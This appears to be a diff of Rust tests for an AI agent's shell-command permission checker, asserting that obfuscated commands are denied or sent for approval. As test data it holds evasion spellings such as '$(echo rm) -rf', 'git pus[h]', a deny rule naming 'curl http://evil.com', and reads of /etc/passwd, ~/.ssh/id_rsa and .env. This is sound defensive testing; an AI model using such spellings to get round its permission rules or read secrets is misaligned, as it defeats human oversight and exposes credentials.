@@ -351,3 +351,92 @@ async fn redirections_lead_where_files_lie() {
         assert_eq!(checked.decision.action, Deny, "{cmd}");
     }
 }
+
+// SH1, SH6: a word that nobody knows may be any option.
+#[tokio::test]
+async fn a_word_that_may_be_an_option_is_not_safe() {
+    for cmd in [
+        r#"git diff --no-ext-diff HEAD "-$(echo -output=x)""#,
+        r#"rg x "-$(echo -pre=rm)""#,
+        "rg x -*/*",
+        "git diff -*",
+        "uniq d/[ab]",
+    ] {
+        assert_eq!(decide(Mode::Auto, &[], cmd).await, Ask, "{cmd}");
+    }
+}
+
+// SH10: what a rule forbids is found however it is quoted, and what nobody can name is asked
+// about where something is forbidden.
+#[tokio::test]
+async fn no_spelling_evades_what_is_forbidden() {
+    let rules = |deny: &'static str| ["allow exec_command", deny];
+    for (deny, cmd, expected) in [
+        ("deny exec_command(git reset --hard HEAD~*)", "git reset --hard HEAD~1", Deny),
+        ("deny exec_command(curl http://evil.com*)", r#"curl "http://evil.com/?x""#, Deny),
+        ("deny exec_command(cat secrets/*)", "cat 'secrets/a b'", Deny),
+        ("deny exec_command(cat secrets/*)", "/bin/cat 'secrets/a b'", Deny),
+        ("deny exec_command(rm *)", "$(echo rm) -rf x", Ask),
+        ("deny exec_command(rm *)", "r$(echo m) x", Ask),
+        ("deny exec_command(rm *)", "/bin/r? x", Ask),
+    ] {
+        assert_eq!(decide(Mode::Auto, &rules(deny), cmd).await, expected, "{cmd}");
+        assert_eq!(decide(Mode::Bypass, &rules(deny)[1..], cmd).await, expected, "{cmd}");
+    }
+    assert_eq!(decide(Mode::Bypass, &[], "$(echo rm) -rf x").await, Allow);
+    let push = ["allow exec_command(git *)", "deny exec_command(git push *)"];
+    for cmd in [r#"git pus"$(echo h)" origin"#, "git pus[h] origin"] {
+        assert_eq!(decide(Mode::Auto, &push, cmd).await, Ask, "{cmd}");
+    }
+}
+
+// SH8: whoever reads the script is a command too.
+#[tokio::test]
+async fn a_shell_of_ones_own_is_judged() {
+    let host = Host::new(Mode::Bypass, &["deny exec_command(python3 *)"]);
+    for shell in ["python3", "/usr/bin/python3"] {
+        let arguments = json!({ "cmd": "print(1)", "shell": shell });
+        let checked = check(&host, "exec_command", &arguments).await;
+        assert_eq!(checked.decision.action, Deny, "{shell}");
+    }
+}
+
+// F92: what a command looks at without asking is judged as for every other tool.
+#[tokio::test]
+async fn what_is_only_looked_at_is_judged_where_it_lies() {
+    let host = Host::new(Mode::Auto, &["deny read(.env)"]);
+    std::fs::write(host.folder.path().join(".env"), "x").unwrap();
+    std::fs::write(host.folder.path().join("a.txt"), "x").unwrap();
+    for (cmd, expected) in [
+        ("cat a.txt", Allow),
+        ("cat .env", Deny),
+        ("head -n 1 ./.env", Deny),
+        ("cat /etc/passwd", Ask),
+        ("cat ~/.ssh/id_rsa", Ask),
+        ("ls ..", Ask),
+        ("grep -r x /root", Ask),
+        ("grep -f/etc/passwd a.txt", Ask),
+        ("grep -r /etc/passwd .", Allow),
+        ("grep x /proc/1/environ", Ask),
+        ("cut -d / -f 1 a.txt", Allow),
+        ("echo /etc/passwd", Allow),
+        ("git status", Allow),
+    ] {
+        let checked = check(&host, "exec_command", &json!({ "cmd": cmd })).await;
+        assert_eq!(checked.decision.action, expected, "{cmd}: {:?}", checked.decision.reason);
+    }
+}
+
+// PA2: a link that leads nowhere yet is not the file that is made through it.
+#[cfg(unix)]
+#[tokio::test]
+async fn a_redirection_through_an_open_link_asks() {
+    let host = Host::new(Mode::Auto, &["allow edit", "allow exec_command"]);
+    std::os::unix::fs::symlink(".envrc", host.folder.path().join("open")).unwrap();
+    for cmd in ["echo x > open", "echo x > /proc/self/cwd/y"] {
+        let checked = check(&host, "exec_command", &json!({ "cmd": cmd })).await;
+        assert_eq!(checked.decision.action, Ask, "{cmd}");
+    }
+    let checked = check(&host, "exec_command", &json!({ "cmd": "echo x > plain" })).await;
+    assert_eq!(checked.decision.action, Allow);
+}
